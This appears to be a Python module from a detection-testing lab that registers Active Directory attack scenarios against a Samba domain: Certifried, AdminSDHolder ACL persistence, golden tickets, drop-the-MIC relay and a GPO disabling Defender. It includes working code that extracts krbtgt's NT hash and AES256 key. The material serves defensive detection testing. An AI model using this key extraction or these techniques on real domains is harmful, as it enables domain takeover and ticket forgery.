"""Domain-dominance scenarios of the dcwatch lab: directory persistence (Certifried dNSHostName,
AdminSDHolder ACL, honeytoken tampering), a new computer doing S4U, forged TGTs, drop-the-MIC.

Loaded by lab/run.py (``load_extra_scenarios``): ``install(run)`` registers the scenarios with
run.py's ``scenario`` decorator; the attack steps live in lab/attacks_dominance.py.
"""

from __future__ import annotations

MOD = "lab.attacks_dominance"
# run on the DC with the system python3 (python3-samba): krbtgt's keys as lab.attacks' dcsync
# step writes them ({"nthash", "aes256"})
KRBTGT_KEYS = """
import binascii, json, sys
from samba.auth import system_session
from samba.dcerpc import drsblobs
from samba.ndr import ndr_unpack
from samba.param import LoadParm
from samba.samdb import SamDB
lp = LoadParm()
lp.load(sys.argv[1])
db = SamDB(url=sys.argv[2], session_info=system_session(), lp=lp)
m = db.search(base=db.domain_dn(), expression="(sAMAccountName=krbtgt)",
              attrs=["unicodePwd", "supplementalCredentials"])[0]
out = {"user": "krbtgt", "nthash": bytes(m["unicodePwd"][0]).hex()}
sc = ndr_unpack(drsblobs.supplementalCredentialsBlob, bytes(m["supplementalCredentials"][0]))
for p in sc.sub.packages:
    if p.name == "Primary:Kerberos-Newer-Keys":
        kb = ndr_unpack(drsblobs.package_PrimaryKerberosBlob, binascii.unhexlify(p.data))
        for k in kb.ctr.keys:
            if k.keytype == 18:
                out["aes256"] = bytes(k.value).hex()
print(json.dumps(out))
"""


def install(run) -> None:
    PW = run.PW
    da = ("--user", "da.admin", "--password", PW["da.admin"])
    hd = ("--user", "hd.admin", "--password", PW["hd.admin"])

    step = run.module_step(MOD)

    def logon(s, user: str) -> None:
        """The attacker's session on WS1 before the LDAP work: Kerberos logon and a SYSVOL
        listing over SMB/NTLM (stock clients), as any interactive logon produces."""
        run.kinit(s, "dcw-ws1", user, PW[user], f"{user}.cc", f"{user} logs on at WS1 (kinit)")
        run.tool(s, "dcw-ws1", f"smbclient -n WS1 //dc01.{run.DNS_DOMAIN}/sysvol "
                 f"-U 'CONTOSO\\{user}%{PW[user]}' -c 'ls'", f"{user} maps SYSVOL (NTLM)")

    @run.scenario(
        "dnshostname_spoof",
        expected="2421",
        key_entities="hd.admin;CERTPC;DC01;WS1;10.77.0.21",
        notes="Certifried (CVE-2022-26923) preparation from WS1 as the helpdesk admin hd.admin "
        "(logged on with kinit, SYSVOL listed over SMB/NTLM; Account Operators; Samba 4.17 "
        "has no ms-DS-MachineAccountQuota, so an ordinary user "
        "cannot create computers): LDAP AddRequest of computer CERTPC$ (simple bind, cleartext "
        "LDAP), its password set over LDAPS, then two ModifyRequests on plain LDAP: delete all "
        "servicePrincipalName values, replace dNSHostName with dc01.contoso.local (the DC's "
        "name); both accepted. No AD CS in the lab, so no certificate request follows.",
        audit_expected="2421",
    )
    def sc_certifried(s):
        logon(s, "hd.admin")
        step(s, "certifried", *hd, "--name", "CERTPC", "--target-host",
             f"dc01.{run.DNS_DOMAIN}",
             desc="Certifried: new computer, SPNs cleared, dNSHostName := the DC's name")

    @run.scenario(
        "adminsdholder_acl",
        expected="2430",
        key_entities="da.admin;alice;AdminSDHolder;DC01;WS1;10.77.0.21",
        notes="AdminSDHolder persistence from WS1 as da.admin (logged on with kinit, SYSVOL listed "
        "over SMB/NTLM; then ldap3 simple bind, cleartext "
        "LDAP, SD flags control DACL_SECURITY_INFORMATION): read the nTSecurityDescriptor of "
        "CN=AdminSDHolder,CN=System,DC=contoso,DC=local, append an ACCESS_ALLOWED ACE granting "
        "alice full control (0x000F01FF), write it back (ModifyRequest replace "
        "nTSecurityDescriptor: accepted), as dacledit.py -action write does.",
        audit_expected="2430",
    )
    def sc_adminsdholder(s):
        logon(s, "da.admin")
        step(s, "adminsdholder", *da, "--grantee", "alice",
             desc="dacledit.py -action write -rights FullControl -principal alice "
             "-target-dn CN=AdminSDHolder,...")

    @run.scenario(
        "honeytoken_tamper",
        expected="2427;2428",
        key_entities="da.admin;backup.admin;Helpdesk;DC01;WS1;10.77.0.21",
        notes="The honeytoken account backup.admin (tagged in scan-options.toml) is tampered "
        "with from WS1 by da.admin (logged on with kinit, SYSVOL listed over SMB/NTLM) over "
        "cleartext LDAP (simple bind): mobile and "
        "telephoneNumber set (an attacker's MFA phone), description replaced, then added to "
        "the Helpdesk group and removed again 2 s later.",
        audit_expected="2427;2428",
    )
    def sc_honeytoken_tamper(s):
        logon(s, "da.admin")
        step(s, "honeytoken_tamper", *da, "--target-user", run.HONEYTOKEN, "--groups",
             "Helpdesk", "--cleanup-after", "2",
             desc="attribute changes and group membership of the decoy account")

    @run.scenario(
        "new_computer_s4u",
        expected="2422",
        key_entities="hd.admin;NEWPC$;NEWPC;Administrator;DC01;WS1;10.77.0.21",
        notes="KrbRelayUp / RBCD tail from WS1: hd.admin (Account Operators; logged on with kinit, "
        "SYSVOL listed over SMB/NTLM) creates computer "
        "NEWPC$ over cleartext LDAP (AddRequest with SPNs HOST/newpc...), sets its password "
        "over LDAPS; seconds later NEWPC$ gets a TGT (AES, pre-auth) and sends S4U2self "
        "(TGS-REQ with PA-FOR-USER) for Administrator to itself (granted) and S4U2proxy "
        "(cname-in-addl-tkt, the S4U2self ticket as additional ticket) to cifs/dc01 "
        "(KDC_ERR_BADOPTION: NEWPC$ has no delegation rights; Samba 4.17 has no RBCD).",
        audit_expected="",
        audit_tolerated="",
    )
    def sc_new_computer_s4u(s):
        logon(s, "hd.admin")
        step(s, "new_computer_s4u", *hd, "--name", "NEWPC", "--impersonate", "Administrator",
             "--spn", f"cifs/dc01.{run.DNS_DOMAIN}",
             desc="addcomputer (LDAP) + getST.py -impersonate Administrator")

    def krbtgt_keys(s) -> None:
        """krbtgt's NT hash and AES256 key into WORK/krbtgt.secrets.json, read on the DC from
        sam.ldb (no network: the forged-ticket scenarios show only the ticket's use; the theft
        itself is the dcsync scenario's)."""
        path = run.WORK / "krbtgt.secrets.json"
        if path.exists():
            return
        r = run.sh(["/usr/bin/python3", "-c", KRBTGT_KEYS, str(run.SMB_CONF),
                    str(run.SAMBA / "private" / "sam.ldb")], ns="dcw-dc", capture=True,
                   quiet=True)
        path.write_text(r.stdout)
        s.steps.append("DC01 (local, no network): krbtgt's NT hash and AES256 key read from "
                       "sam.ldb with Samba's Python bindings, standing in for a DCSync made "
                       "earlier (see the dcsync scenario)")

    @run.scenario(
        "golden_ticket_nonexistent",
        expected="2027",
        tolerated="2032",
        key_entities="ghost.admin;krbtgt;WS1;10.77.0.21;DC01",
        notes="Golden ticket for an account that does not exist, from WS1 (krbtgt keys read on the "
        "DC outside the capture, standing in for an earlier DCSync): impacket ticketer "
        "forges an AES256 TGT for "
        "ghost.admin (RID 1337, groups 513/512/520/518/519) and presents it in TGS-REQs for "
        "cifs/ and ldap/dc01 and an SMB session setup; Samba's KDC answers each "
        "KDC_ERR_C_PRINCIPAL_UNKNOWN (it looks the client up). 2032 (a TGT the KDC never "
        "issued) tolerated. WS1's machine account logs on first (startup), which names the "
        "computer.",
        audit_expected="",
        audit_tolerated="",
    )
    def sc_golden_nonexistent(s):
        krbtgt_keys(s)
        run.machine_logon(s, "dcw-ws1")
        facts = run.domain_facts()
        step(s, "golden", "--domain-sid", facts["sid"], "--kvno", facts["krbtgt_kvno"],
             "--impersonate", "ghost.admin", "--user-id", "1337",
             desc="ticketer.py -aesKey <krbtgt> -user-id 1337 ghost.admin, used for TGS + SMB")

    @run.scenario(
        "ntlm_drop_mic",
        expected="2039",
        key_entities="alice;WS1;10.77.0.21;DC01",
        notes="CVE-2019-1040 'drop the MIC' as the DC sees it from a relay: SMB2 session setups "
        "from WS1 for alice whose NTLMv2 AUTHENTICATE carries MsvAvFlags 0x2 (MIC present) in "
        "the client's AV pairs (covered by NTProofStr) but no MIC and no Version field, with "
        "NEGOTIATE_SIGN/ALWAYS_SIGN cleared (ntlmrelayx --remove-mic). Samba 4.17 is not "
        "vulnerable: it logs 'invalid NTLMSSP_MIC' and answers STATUS_INVALID_PARAMETER.",
        audit_expected="",
        audit_tolerated="",
    )
    def sc_drop_mic(s):
        step(s, "drop_mic", "--user", "alice", "--password", PW["alice"], "--attempts", "3",
             desc="NTLM AUTHENTICATE with the MIC stripped")

    @run.scenario(
        "gpo_defender_off",
        expected="2440",
        key_entities="da.admin;Default Domain Policy;{31B2F340-016D-11D2-945F-00C04FB984F9};"
        "DC01;WS1;10.77.0.21",
        notes="Group Policy tampering from WS1 as da.admin (logged on with kinit, SYSVOL "
        "listed over SMB/NTLM), the way pyGPOAbuse or a GPMC edit does it: over SMB2 (signed, "
        "not encrypted) read GPT.INI of the Default Domain Policy "
        "{31B2F340-016D-11D2-945F-00C04FB984F9}, write its Machine\\Registry.pol with "
        "Software\\Policies\\Microsoft\\Windows Defender DisableAntiSpyware=1 and "
        "...\\Real-Time Protection DisableRealtimeMonitoring=1, DisableBehaviorMonitoring=1 "
        "(REG_DWORD) and a bumped GPT.INI, then over cleartext LDAP (simple bind) replace "
        "versionNumber and gPCMachineExtensionNames (Registry CSE) of the GPO container. "
        "Samba's audit sees only the container change (versionNumber / extension names are "
        "what every GPO edit writes: no alert there).",
        audit_expected="",
    )
    def sc_gpo_defender_off(s):
        logon(s, "da.admin")
        step(s, "gpo_disable_defender", *da, "--gpo", run.DEFAULT_GPO,
             desc="Registry.pol disabling Defender written to the Default Domain Policy")

    @run.scenario(
        "golden_ticket_rc4",
        expected="2009",
        tolerated="2032",
        key_entities="Administrator;krbtgt;WS1;10.77.0.21;DC01",
        notes="Golden ticket encrypted with krbtgt's NT hash (RC4) from WS1 (krbtgt keys read on "
        "the DC outside the capture, standing in for an earlier DCSync): WS1's machine account "
        "logs on first (startup: the KDC issues it an AES256 TGT), then impacket ticketer "
        "forges an RC4 (etype 23) TGT for Administrator (RID 500, groups 513/512/520/518/519) "
        "and presents it in TGS-REQs for cifs/ and ldap/dc01 and an SMB session setup. Samba "
        "4.17's KDC holds no RC4 key for krbtgt and answers KRB_AP_ERR_BADKEYVER each time "
        "(a Windows KDC would accept the ticket). 2032 (a TGT the KDC never issued) "
        "tolerated.",
        audit_expected="",
        audit_tolerated="",
    )
    def sc_golden_rc4(s):
        krbtgt_keys(s)
        run.machine_logon(s, "dcw-ws1")
        facts = run.domain_facts()
        step(s, "golden", "--rc4", "--domain-sid", facts["sid"], "--kvno",
             facts["krbtgt_kvno"],
             desc="ticketer.py -nthash <krbtgt> Administrator (RC4), used for TGS + SMB")
